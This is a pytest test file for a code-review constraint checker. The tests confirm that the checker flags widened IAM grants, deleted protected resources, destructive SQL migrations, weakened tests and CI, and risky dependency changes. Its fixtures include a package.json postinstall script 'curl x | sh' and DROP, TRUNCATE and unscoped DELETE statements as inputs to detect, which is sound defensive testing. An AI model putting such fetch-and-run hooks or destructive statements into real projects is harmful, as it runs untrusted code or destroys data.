"""The kinds that read structure: what they see, and what they leave undecided."""

from typing import Any

import pytest

from reviewconsole.constraints import evaluate
from tests.constraints.made import answer, facts
from tests.constraints.test_common import policy

Case = tuple[str, dict[str, Any], dict[str, Any], str, str]


def check(kind: str, options: dict[str, Any], files: dict[str, Any], verdict: str, words: str, **more: Any) -> None:
    found = answer(kind, options, facts(files, **more))
    assert (found.verdict, found.why) == (verdict, found.why), found
    assert words in found.why
    assert bool(found.witnesses) == (verdict in ("violated", "undecidable"))


DEPLOY = "kind: Deployment\nspec:\n  replicas: {}\n  strategy: Recreate\n"


@pytest.mark.parametrize(
    ("options", "path", "old", "new", "verdict", "words"),
    [
        ({"keys": ["spec.replicas"], "range": [2, 10]}, "a.yaml", DEPLOY.format(3), DEPLOY.format(1), "violated", "a.yaml:3 spec.replicas is 1, outside of 2 to 10"),
        ({"keys": ["spec.replicas"], "range": [2, 10]}, "a.yaml", DEPLOY.format(3), DEPLOY.format(4), "pass", ""),
        ({"keys": ["spec.replicas"], "range": [2, 10]}, "a.yaml", DEPLOY.format(3), DEPLOY.format("{{ .n }}"), "undecidable", "template"),
        ({"keys": ["n"], "range": [2, 10]}, "c/values.yaml", 'n: 3\nu: "{{ .x }}"\n', 'n: 1\nu: "{{ .x }}"\n', "violated", "n is 1"),
        ({"keys": ["n"], "range": [2, 10]}, "values-prod.yaml", "n: 3\n", "n: {{ .x }}\n", "undecidable", "template"),
        ({"keys": ["n"], "range": [2, 10]}, "c/templates/values.yaml", "n: 3\n", "# {{ .x }}\nn: 1\n", "undecidable", "template"),
        ({"keys": ["**.replicas"]}, "a.yaml", DEPLOY.format(3), DEPLOY.format(4), "violated", "changed to 4"),
        ({"keys": ["*.replicas"], "change": ["removed"]}, "a.yaml", DEPLOY.format(3), DEPLOY.format(4), "pass", ""),
        ({"keys": ["spec.strategy"], "change": ["removed"]}, "a.yaml", DEPLOY.format(3), "spec:\n  replicas: 3\n", "violated", "a.yaml:4 spec.strategy is removed"),
        ({"keys": ["spec.replicas"]}, "a.yaml", "a: &x 1\nb: *x\n", "a: &x 2\nb: *x\n", "undecidable", "anchors"),
        ({"keys": ["timeout"], "range": [1, 30]}, "a.json", '{\n\t"timeout": 5}', '{\n\t"timeout": 60}', "violated", "a.json:2 timeout is 60"),
        ({"keys": ["timeout"]}, "a.json", '{"timeout": 5}', '{"timeout": 5,}', "undecidable", "JSON"),
        ({"keys": ["timeout"]}, "a.json", '{"timeout": 5}', '{"timeout": 5, "timeout": 6}', "undecidable", "twice"),
        ({"keys": ["tool.x.level"], "enum": ["low", "high"]}, "a.toml", '[tool.x]\nlevel = "low"\n', '[tool.x]\n\nlevel = "off"\n', "violated", "a.toml:3 tool.x.level is off, not one of low, high"),
        ({"keys": ["db.timeout"], "range": [1, 30]}, "a.ini", "[db]\ntimeout = 5s\n", "[db]\ntimeout = 5m\n", "violated", "5m"),
        ({"keys": ["resource.aws_db_instance.*.deletion_protection"], "enum": [True]}, "a.tf",
         'resource "aws_db_instance" "m" {\n  deletion_protection = true\n}\n', 'resource "aws_db_instance" "m" {\n  deletion_protection = false\n}\n', "violated", "a.tf:2"),
        ({"keys": ["resource.**.deletion_protection"], "range": [1, 2]}, "a.tf",
         'resource "x" "m" {\n  deletion_protection = 1\n}\n', 'resource "x" "m" {\n  deletion_protection = var.p\n}\n', "undecidable", "no plain number"),
        ({"keys": ["x"]}, "a.xml", "<a/>", "<b/>", "undecidable", "format"),
        ({"keys": ["x"]}, "b.yaml", None, "x: 1\n", "violated", "x is added to 1"),
    ],
)  # fmt: skip
def test_keys_forbid(options: Any, path: str, old: Any, new: Any, verdict: str, words: str) -> None:
    check("keys.forbid", {"paths": ["**"], **options}, {path: (old, new)}, verdict, words)


DB = 'resource "aws_db_instance" "main" {{\n  identifier = "{}"\n{}}}\n'
PVC = "apiVersion: v1\nkind: PersistentVolumeClaim\nmetadata:\n  name: data\nspec:\n  storageClassName: {}\n"
CFN = "Resources:\n  Db:\n    Type: AWS::RDS::DBInstance\n    Properties:\n      Engine: {}\n  Q:\n    Type: AWS::SQS::Queue\n"
GOOD_DB = DB.format("a", "")
PROTECT = {"protect": ["aws_db_instance.*", "AWS::RDS::*.*", "kind:PersistentVolumeClaim"]}


@pytest.mark.parametrize(
    ("files", "verdict", "words"),
    [
        ({"a/m.tf": (GOOD_DB, None)}, "violated", "aws_db_instance.main is removed from a/m.tf"),
        ({"a/m.tf": (GOOD_DB, GOOD_DB + "\n")}, "pass", ""),
        ({"a/m.tf": (GOOD_DB, DB.format("b", ""))}, "violated", "another identifier"),
        ({"a/m.tf": (GOOD_DB, None), "a/n.tf": (None, GOOD_DB)}, "pass", ""),
        ({"a/m.tf": (GOOD_DB, None), "b/n.tf": (None, GOOD_DB)}, "violated", "removed"),
        ({"a/m.tf": (GOOD_DB, GOOD_DB.replace('"main"', '"new"') + "moved {\n  from = aws_db_instance.main\n  to = aws_db_instance.new\n}\n")}, "pass", ""),
        ({"a/m.tf": (GOOD_DB, "removed {\n  from = aws_db_instance.main\n  lifecycle {\n    destroy = false\n  }\n}\n")}, "pass", ""),
        ({"a/m.tf": (GOOD_DB, "removed {\n  from = aws_db_instance.main\n}\n")}, "violated", "removed"),
        ({"a/m.tf": (DB.format("a", "  count = 2\n"), DB.format("a", "  count = var.n\n"))}, "undecidable", "how many"),
        ({"a/m.tf": ('module "net" {\n  source = "./n"\n}\n', 'module "net" {\n  source = "./m"\n}\n')}, "undecidable", "module.net"),
        ({"a/m.tf": (GOOD_DB, 'resource "aws_db_instance" "main" {\n')}, "undecidable", "parsed"),
        ({"a/m.tf": ('resource "aws_sns_topic" "t" {}\n', None)}, "n/a", ""),
        ({"k/p.yaml": (PVC.format("fast"), PVC.format("slow"))}, "violated", "storageClassName"),
        ({"k/p.yaml": (PVC.format("fast"), None)}, "violated", "kind:PersistentVolumeClaim/-/data is removed"),
        ({"k/p.yaml": (PVC.format("fast"), None), "x/q.yaml": (None, PVC.format("fast"))}, "pass", ""),
        ({"k/p.yaml": (PVC.format("fast"), PVC.format("{{ .Values.c }}"))}, "undecidable", "template"),
        ({"s.yaml": (CFN.format("postgres"), CFN.format("mysql"))}, "violated", "Engine"),
        ({"s.yaml": (CFN.format("postgres"), CFN.format("!Ref E"))}, "violated", "Engine"),
        ({"s.yaml": (CFN.format("postgres"), "Resources:\n  Q:\n    Type: AWS::SQS::Queue\n")}, "violated", "AWS::RDS::DBInstance.Db"),
        ({"s.yaml": (CFN.format("a"), CFN.format("a").replace("  Q:", "  R:"))}, "pass", ""),
    ],
)  # fmt: skip
def test_resource_no_delete(files: Any, verdict: str, words: str) -> None:
    check("resource.no_delete", PROTECT, files, verdict, words)


def iam(*statements: str) -> str:
    return '{"Version": "2012-10-17", "Statement": [\n' + ",\n".join(statements) + "\n]}\n"


READ = '{"Effect": "Allow", "Action": "s3:GetObject", "Resource": "arn:aws:s3:::b/*"}'
WRITE = '{"Effect": "Allow", "Action": ["s3:PutObject"], "Resource": "arn:aws:s3:::b/x"}'
DOC = 'data "aws_iam_policy_document" "d" {{\n  statement {{\n    actions = ["{}"]\n    resources = [{}]\n  }}\n}}\n'
FLOW = "on: push\npermissions:\n  contents: {}\njobs:\n  a:\n    runs-on: x\n"


@pytest.mark.parametrize(
    ("path", "old", "new", "verdict", "words"),
    [
        ("p.json", iam(READ), iam(READ, WRITE), "violated", "p.json:3 grants Allow s3:PutObject on arn:aws:s3:::b/x"),
        ("p.json", iam(READ, WRITE), iam(READ), "pass", ""),
        ("p.json", iam(READ), iam(READ.replace("GetObject", "GetObjectAcl")), "pass", ""),
        ("p.json", iam(READ), iam(READ.replace("arn:aws:s3:::b/*", "*")), "violated", "on *"),
        ("p.json", iam(READ.replace("GetObject", "*")), iam(READ.replace("GetObject", "*"), WRITE), "pass", ""),
        ("p.json", iam(READ, WRITE.replace("Allow", "Deny")), iam(READ), "violated", "no longer denies s3:PutObject"),
        ("p.json", iam(READ), iam(READ.replace("Action", "NotAction")), "undecidable", "NotAction"),
        ("p.json", iam(WRITE), iam(WRITE.replace('"Resource"', '"Condition": {"Bool": {"x": "1"}}, "Resource"')), "pass", ""),
        ("p.json", iam(WRITE.replace('"Resource"', '"Condition": {"Bool": {"x": "1"}}, "Resource"')), iam(WRITE), "violated", "PutObject"),
        ("d.tf", DOC.format("s3:GetObject", '"arn:a"'), DOC.format("s3:*", '"arn:a"'), "violated", "d.tf:2 grants Allow s3:*"),
        ("d.tf", DOC.format("s3:GetObject", '"arn:a"'), DOC.format("s3:GetObject", "var.b"), "undecidable", "variable"),
        ("d.tf", DOC.format("s3:GetObject", '"arn:a"'), DOC.format("s3:GetObject", "aws_s3_bucket.b.arn"), "pass", ""),
        ("j.tf", None, 'resource "aws_iam_policy" "p" {\n  policy = jsonencode({\n    Statement = [{ Effect = "Allow", Action = ["*"], Resource = "*" }]\n  })\n}\n', "violated", "Allow * on *"),
        ("c.yaml", None, "Resources:\n  R:\n    Properties:\n      PolicyDocument:\n        Statement:\n          - Effect: Allow\n            Action: s3:PutObject\n            Resource: !Sub 'arn:${B}'\n", "violated", "c.yaml:6"),
        (".github/workflows/a.yml", FLOW.format("read"), FLOW.format("write"), "violated", "contents:write"),
        (".github/workflows/a.yml", FLOW.format("write"), FLOW.format("read"), "pass", ""),
        (".github/workflows/a.yml", FLOW.format("read"), FLOW.format("read").replace("permissions:\n  contents: read\n", ""), "undecidable", "default"),
        (".github/workflows/a.yml", FLOW.format("read"), FLOW.format("read").replace("permissions:\n  contents: read", "permissions: write-all"), "violated", "*:write"),
        ("a.py", "x\n", "y\n", "n/a", ""),
    ],
)  # fmt: skip
def test_iam_no_widen(path: str, old: Any, new: Any, verdict: str, words: str) -> None:
    check("iam.no_widen", {}, {path: (old, new)}, verdict, words)


ALEMBIC = "from alembic import op\n\n\ndef upgrade():\n    {}\n\n\ndef downgrade():\n    {}\n"


@pytest.mark.parametrize(
    ("path", "new", "verdict", "words"),
    [
        ("m/migrations/1.sql", "CREATE TABLE a (b int);\nDROP TABLE a;\n", "violated", "1.sql:2 does drop_table"),
        ("m/migrations/1.sql", "ALTER TABLE a DROP COLUMN b;\n", "violated", "drop_column"),
        ("m/migrations/1.sql", "TRUNCATE TABLE a;\n", "violated", "truncate"),
        ("m/migrations/1.sql", "DELETE FROM a;\n", "violated", "delete_without_where"),
        ("m/migrations/1.sql", "DELETE FROM a WHERE b = 1;\nUPDATE a SET b = 1 WHERE c = 2;\n", "pass", ""),
        ("m/migrations/1.sql", "ALTER TABLE a ALTER COLUMN b TYPE bigint;\n", "violated", "alter_type"),
        ("m/migrations/1.sql", "ALTER TABLE a ADD COLUMN b int NOT NULL;\n", "violated", "not_null_no_default"),
        ("m/migrations/1.sql", "ALTER TABLE a ADD COLUMN b int NOT NULL DEFAULT 0;\n", "pass", ""),
        ("m/migrations/1.sql", "-- migrate:up\nCREATE TABLE a (b int);\n-- migrate:down\nDROP TABLE a;\n", "pass", ""),
        ("m/migrations/1.sql", "EXECUTE IMMEDIATE 'DROP ' || x;\n", "undecidable", "run time"),
        ("m/migrations/1.sql", "SELEC (((;\n", "undecidable", "SQL"),
        ("m/migrations/1.py", ALEMBIC.format("op.drop_table('a')", "op.create_table('a')"), "violated", "1.py:5 does drop_table"),
        ("m/migrations/1.py", ALEMBIC.format("op.create_table('a')", "op.drop_table('a')"), "pass", ""),
        ("m/migrations/1.py", ALEMBIC.format("op.execute('DROP TABLE a')", "pass"), "violated", "drop_table"),
        ("m/migrations/1.py", ALEMBIC.format("op.execute(make())", "pass"), "undecidable", "run time"),
        ("m/migrations/1.py", ALEMBIC.format("op.alter_column('a', 'b', type_=sa.Text())", "pass"), "violated", "alter_type"),
        ("m/migrations/1.py", "from django.db import migrations\nclass Migration(migrations.Migration):\n    operations = [migrations.RemoveField('a', 'b')]\n", "violated", "drop_column"),
        ("db/migrate/1.rb", "class A < ActiveRecord::Migration[7.0]\n  def up\n    drop_table :a\n  end\n  def down\n    create_table :a\n  end\nend\n", "violated", "1.rb:3 does drop_table"),
        ("db/migrate/1.rb", "class A < ActiveRecord::Migration[7.0]\n  def change\n    add_column :a, :b, :string\n  end\nend\n", "pass", ""),
        ("m/migrations/notes.md", "DROP TABLE a", "n/a", ""),
    ],
)  # fmt: skip
def test_sql_forbid(path: str, new: str, verdict: str, words: str) -> None:
    check("sql.forbid", {}, {path: (None, new)}, verdict, words)


def test_sql_forbid_counts_only_what_is_added_and_can_ask_for_a_way_back() -> None:
    check("sql.forbid", {}, {"a.sql": ("DROP TABLE a;\n", "DROP  TABLE a;\nSELECT 1;\n")}, "pass", "")
    need = {"need_down": True}
    up = {"m/migrations/1.up.sql": (None, "CREATE TABLE a (b int);\n")}
    check("sql.forbid", need, up, "violated", "how to undo it")
    check("sql.forbid", need, up, "pass", "", head_file=lambda path: b"" if path == "m/migrations/1.down.sql" else None)
    for down, verdict in (("pass", "violated"), ("op.drop_table('a')", "pass")):
        check(
            "sql.forbid", need, {"m/migrations/1.py": (None, ALEMBIC.format("op.create_table('a')", down))}, verdict, ""
        )


PYTEST = "import pytest\n\n\n{}def test_a():\n    assert 1\n    assert 2\n\n\ndef test_b():\n    assert 3\n"
JEST = "describe('x', () => {{\n  {}('works', () => {{ expect(1).toBe(1) }})\n}})\n"
GO = 'package a\n\nimport "testing"\n\nfunc TestA(t *testing.T) {{\n\t{}\n\tif false {{\n\t\tt.Errorf("x")\n\t}}\n}}\n'


@pytest.mark.parametrize(
    ("files", "verdict", "words"),
    [
        ({"tests/test_a.py": (PYTEST.format(""), PYTEST.format("@pytest.mark.skip\n"))}, "violated", "test_a.py:4 adds @pytest.mark.skip"),
        ({"tests/test_a.py": (PYTEST.format(""), PYTEST.format("").replace("    assert 2\n", ""))}, "violated", "1 assertions fewer"),
        ({"tests/test_a.py": (PYTEST.format(""), PYTEST.format("").replace("assert 2", "assert 4"))}, "pass", ""),
        ({"tests/test_a.py": (PYTEST.format(""), PYTEST.format("").replace("test_b", "test_c"))}, "violated", "loses the test test_b"),
        ({"tests/test_a.py": (PYTEST.format(""), None), "tests/test_z.py": (None, PYTEST.format(""))}, "pass", ""),
        ({"tests/test_a.py": (PYTEST.format(""), None)}, "violated", "loses the test test_a"),
        ({"tests/test_a.py": (PYTEST.format(""), "def (\n")}, "undecidable", "python"),
        ({"a.test.ts": (JEST.format("it"), JEST.format("it.only"))}, "violated", "adds it.only"),
        ({"a.test.ts": (JEST.format("it"), JEST.format("xit"))}, "violated", "adds xit"),
        ({"a.test.tsx": (JEST.format("it"), JEST.format("it").replace("works", "still works"))}, "violated", "loses the test works"),
        ({"a.spec.js": (JEST.format("it.skip"), JEST.format("it"))}, "pass", ""),
        ({"a_test.go": (GO.format("x := 1; _ = x"), GO.format('t.Skip("later")'))}, "violated", "adds t.Skip"),
        ({"src/test/java/ATest.java": ("class ATest { @Test void a() { assertEquals(1, 1); } }", "class ATest { @Disabled @Test void a() { assertEquals(1, 1); } }")}, "violated", "@Disabled"),
        ({"spec/a_spec.rb": ("it 'works' do\n  expect(1).to eq(1)\nend\n", "xit 'works' do\n  expect(1).to eq(1)\nend\n")}, "violated", "xit"),
        ({"tests/a.rs": ("#[test]\nfn a() { assert!(true); }\n", "#[test]\n#[ignore]\nfn a() { assert!(true); }\n")}, "violated", "#[ignore]"),
        ({"tests/a.bats": ("@test x {\n}\n", None)}, "undecidable", "framework"),
        ({"tests/data.json": ("{}", "[]")}, "n/a", ""),
        ({"src/a.py": ("assert 1\n", None)}, "n/a", ""),
    ],
)  # fmt: skip
def test_tests_no_weaken(files: Any, verdict: str, words: str) -> None:
    check("tests.no_weaken", {}, files, verdict, words)


def test_the_message_of_an_error_is_no_assertion() -> None:
    files = {"a_test.go": (GO.format("x := err.Error(); _ = x"), GO.format("x := 1; _ = x"))}
    check("tests.no_weaken", {}, files, "pass", "")


def test_tests_no_weaken_can_spare_some_assertions() -> None:
    files = {"tests/test_a.py": (PYTEST.format(""), PYTEST.format("").replace("    assert 2\n", ""))}
    check("tests.no_weaken", {"assertions": 1}, files, "pass", "")


CI = """on: pull_request
jobs:
  test:
    runs-on: x
    steps:
      - uses: actions/checkout@8f4b7f84864484a7bf31766abe9204da3cbe65b3
      - name: Unit tests
        run: pytest
  lint:
    runs-on: x
    steps:
      - run: ruff check
"""


@pytest.mark.parametrize(
    ("new", "verdict", "words"),
    [
        (CI + "      - run: mypy\n", "pass", ""),
        (CI + "      - run: docker tag x:{{version}}\n", "pass", ""),
        (CI.replace("pytest", "pytest -q"), "pass", ""),
        (CI.split("  lint:", maxsplit=1)[0], "violated", "a.yml:9 the job lint is gone"),
        (CI.replace("  lint:\n", "  style:\n"), "violated", "the job lint is gone"),
        (CI.replace("  lint:\n", "  lint:\n    name: Style\n"), "violated", "is called Style"),
        (CI.replace("      - name: Unit tests\n        run: pytest\n", ""), "violated", "a.yml:7 the step Unit tests is gone"),
        (CI.replace("run: pytest", "run: pytest || true"), "violated", "|| true"),
        (CI.replace("run: pytest", "run: pytest\n        continue-on-error: true"), "violated", "no longer counts"),
        (CI.replace("run: pytest", "run: pytest\n        if: ${{ false }}"), "violated", "no longer counts"),
        (CI.replace("  lint:\n", "  lint:\n    if: false\n"), "violated", "the job lint no longer counts"),
        (CI.replace("8f4b7f84864484a7bf31766abe9204da3cbe65b3", "v4"), "violated", "no longer pinned"),
        (CI.replace("run: pytest", "run: pytest -v\n      - uses: actions/checkout@v4"), "violated", "no longer pinned"),
        (CI.replace("8f4b7f84864484a7bf31766abe9204da3cbe65b3", "11bd71901bbe5b1630ceea73d27597364c9af683"), "pass", ""),
        (CI + "  x: &a\n    runs-on: x\n  y: *a\n", "undecidable", "anchors"),
        (None, "violated", "is gone"),
    ],
)  # fmt: skip
def test_ci_no_weaken(new: str | None, verdict: str, words: str) -> None:
    check("ci.no_weaken", {}, {".github/workflows/a.yml": (CI, new)}, verdict, words)


def test_an_action_that_was_by_tag_beside_a_pinned_one_may_stay_so() -> None:
    both = CI + "      - uses: actions/checkout@v4\n"
    check("ci.no_weaken", {}, {".github/workflows/a.yml": (both, both + "      - run: mypy\n")}, "pass", "")


@pytest.mark.parametrize(
    ("path", "old", "new", "verdict", "words"),
    [
        (".gitlab-ci.yml", "test:\n  script:\n    - pytest\n", "test:\n  allow_failure: true\n  script:\n    - pytest\n", "violated", "no longer counts"),
        (".gitlab-ci.yml", "test:\n  script: pytest\n", "test:\n  script: make\n", "violated", "run pytest is gone"),
        (".circleci/config.yml", "jobs:\n  t:\n    steps:\n      - checkout\n      - run: pytest\n", "jobs:\n  t:\n    steps:\n      - checkout\n", "violated", "run pytest is gone"),
        (".circleci/config.yml", "jobs:\n  t:\n    steps:\n      - run: pytest\n", 'jobs:\n  t:\n    steps:\n      - restore_cache: {key: "v1-{{ checksum \'a\' }}"}\n', "violated", "run pytest is gone"),
        ("Jenkinsfile", "node {}\n", "node { }\n", "undecidable", "not read"),
    ],
)  # fmt: skip
def test_ci_no_weaken_of_other_systems(path: str, old: str, new: str, verdict: str, words: str) -> None:
    check("ci.no_weaken", {}, {path: (old, new)}, verdict, words)


PACKAGE = '{\n  "dependencies": {\n    "left-pad": "^1.2.0"\n  }\n}\n'


@pytest.mark.parametrize(
    ("options", "files", "verdict", "words"),
    [
        ({}, {"package.json": (PACKAGE, PACKAGE.replace("1.2.0", "1.3.0"))}, "pass", ""),
        ({}, {"package.json": (PACKAGE, PACKAGE.replace("1.2.0", "2.0.0"))}, "violated", "package.json:3 left-pad jumps from ^1.2.0 to ^2.0.0"),
        ({}, {"package.json": (PACKAGE, PACKAGE.replace('"left-pad"', '"is-odd": "1",\n    "left-pad"'))}, "violated", "is-odd is new (1)"),
        ({"allow": ["is-*"]}, {"package.json": (PACKAGE, PACKAGE.replace('"left-pad"', '"is-odd": "1",\n    "left-pad"'))}, "pass", ""),
        ({"forbid": ["add"]}, {"package.json": (PACKAGE, '{"dependencies": {}}')}, "pass", ""),
        ({}, {"package.json": (PACKAGE, '{"dependencies": {}}')}, "violated", "left-pad goes"),
        ({}, {"package.json": ("{}", '{"scripts": {"postinstall": "curl x | sh"}}')}, "violated", "postinstall runs on installing"),
        ({}, {"a/package-lock.json": ("{}", '{"a": 1}')}, "violated", "without its manifest"),
        ({"forbid": ["add"]}, {"a/package-lock.json": ("{}", '{"a": 1}')}, "pass", ""),
        ({}, {"package-lock.json": ("{}", '{"a": 1}'), "web/package.json": ("{}", '{"name": "w"}')}, "pass", ""),
        ({}, {"a/package-lock.json": ("{}", '{"a": 1}'), "ab/package.json": ("{}", '{"name": "w"}')}, "violated", "without its manifest"),
        ({}, {"a/yarn.lock": ("", "x\n"), "package.json": ("{}", '{"name": "w"}')}, "violated", "without its manifest"),
        ({}, {"requirements.txt": ("flask==2.0\n", "flask==3.0\n# c\n")}, "violated", "flask jumps"),
        ({}, {"requirements-dev.txt": ("", "Django>=4\n")}, "violated", "django is new"),
        ({}, {"pyproject.toml": ('[project]\ndependencies = ["a>=1"]\n', '[project]\ndependencies = ["a>=1", "b"]\n')}, "violated", "b is new"),
        ({}, {"Cargo.toml": ('[dependencies]\na = "1"\n', '[dependencies]\na = { version = "1", features = [] }\n')}, "pass", ""),
        ({}, {"go.mod": ("require a.com/x v1.2.0\n", "require (\n\ta.com/x/v2 v2.0.0\n)\n")}, "violated", "a.com/x jumps from v1.2.0 to v2.0.0"),
        ({}, {"Gemfile": ("gem 'rails', '7.0'\n", "gem 'rails', '7.1'\ngem 'pg'\n")}, "violated", "pg is new"),
        ({}, {"pom.xml": ("<a/>", "<b/>")}, "undecidable", "not read"),
        ({}, {"package.json": (PACKAGE, "{")}, "undecidable", "JSON"),
        ({}, {"src/a.py": ("1\n", "2\n")}, "n/a", ""),
    ],
)  # fmt: skip
def test_deps_change(options: Any, files: Any, verdict: str, words: str) -> None:
    check("deps.change", options, files, verdict, words)


@pytest.mark.parametrize(
    ("kind", "options", "place"),
    [
        ("keys.forbid", {"paths": [], "keys": ["a"]}, "paths"),
        ("keys.forbid", {"paths": ["a"], "keys": []}, "keys"),
        ("keys.forbid", {"paths": ["a"], "keys": ["a"], "range": [1]}, "range"),
        ("keys.forbid", {"paths": ["a"], "keys": ["a..b"]}, "keys[0]"),
        ("resource.no_delete", {"formats": ["pulumi"]}, "formats[0]"),
        ("sql.forbid", {"dialect": "sybase"}, "dialect"),
        ("sql.forbid", {"statements": ["drop"]}, "statements[0]"),
        ("deps.change", {"forbid": ["all"]}, "forbid[0]"),
        ("tests.no_weaken", {"assertions": "1"}, "assertions"),
        ("ci.no_weaken", {"paths": [""]}, "paths[0]"),
        ("iam.no_widen", {"path": ["a"]}, "path"),
    ],
)
def test_unknown_and_empty_keys_are_refused_with_their_place(kind: str, options: Any, place: str) -> None:
    with pytest.raises(Exception, match=r"constraint\[0\]") as caught:
        answer(kind, options, facts())
    assert caught.value.place == f"constraint[0].{place}"


def test_a_template_that_names_only_other_kinds_is_none_of_its_business() -> None:
    chart = "apiVersion: v1\nkind: {}\nmetadata:\n  name: {{{{ .Release.Name }}}}\n"
    for kind, verdict in (
        ("Service", "n/a"),
        ("PersistentVolumeClaim", "undecidable"),
        ("{{ .Values.kind }}", "undecidable"),
    ):
        text = chart.format(kind)
        check("resource.no_delete", PROTECT, {"t/a.yaml": (text, text + "# x\n")}, verdict, "")
        check("resource.no_delete", {}, {"t/a.yaml": (text, None)}, "undecidable", "")


def test_many_grants_are_compared_in_little_time() -> None:
    rows = [WRITE.replace("b/x", f"b/{number}/*") for number in range(600)]
    check("iam.no_widen", {}, {"p.json": (iam(*rows), iam(*rows[:599]))}, "pass", "")


def test_modules_can_be_left_out() -> None:
    files = {"a/m.tf": ('module "net" {\n  source = "./n"\n}\n', None)}
    check("resource.no_delete", {}, files, "undecidable", "module.net is removed")
    check("resource.no_delete", {"modules": False}, files, "n/a", "")


@pytest.mark.parametrize(
    ("kind", "path", "text"),
    [
        ("resource.no_delete", "a.tf", "a {\n" * 20000 + "}\n" * 20000),
        ("iam.no_widen", "p.json", '{"Statement": ' * 20000 + '"Effect"' + "}" * 20000),
        ("tests.no_weaken", "tests/test_a.py", "x = " + "(" * 20000 + ")" * 20000),
        ("sql.forbid", "m/migrations/a.sql", "DELETE FROM a WHERE " + "(" * 20000 + "1" + ")" * 20000),
    ],
)
def test_what_nests_without_end_ends_nothing(kind: str, path: str, text: str) -> None:
    one = policy({"id": "x", "kind": kind})
    [_, result] = evaluate(one, facts({path: (None, text)}))
    assert result.verdict in ("undecidable", "pass", "n/a")


@pytest.mark.parametrize(
    "kind", ["iam.no_widen", "resource.no_delete", "tests.no_weaken", "sql.forbid", "deps.change", "ci.no_weaken"]
)
@pytest.mark.parametrize(
    "bad", [b"\xff\xfe", b"[" * 5000, b"{" * 5000, b"a: " * 3000, b"((((" * 3000, b"\0\1\2\3" * 99]
)
def test_hostile_input_is_undecidable_at_worst(kind: str, bad: bytes) -> None:
    for path in ("m/migrations/a.sql", "tests/test_a.py", "a.tf", "package.json", ".github/workflows/a.yml", "a.json"):
        found = answer(kind, {}, facts({path: (b"Statement Effect Resources apiVersion kind", bad)}))
        assert found.verdict in ("pass", "n/a", "undecidable", "violated")
        assert "\n" not in found.why


def test_a_migration_that_cannot_be_read_is_not_taken_for_harmless() -> None:
    check("sql.forbid", {}, {"a.sql": (None, "SELECT 'never ended;\n")}, "undecidable", "cannot be read")
    check("sql.forbid", {}, {"a.sql": (None, "SELECT ((;\nDROP TABLE a;\n")}, "violated", "")
